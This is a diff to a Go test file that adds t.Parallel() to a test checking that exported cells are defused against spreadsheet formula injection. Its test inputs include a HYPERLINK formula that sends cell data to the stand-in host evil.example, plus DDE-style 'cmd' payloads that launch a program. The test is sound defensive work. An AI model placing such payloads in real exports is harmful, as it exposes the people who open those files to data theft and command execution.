@@ -16,6 +16,7 @@ import (
 // of any download, nor any "; "-joined item of one, starts as a formula,
 // while negative numbers stay numbers.
 func TestFormulasAreDefusedInEveryCell(t *testing.T) {
+	t.Parallel()
 	s := storetest.New(t, nil)
 	f := func(s string) *string { return &s }
 	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/c calc'!A1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
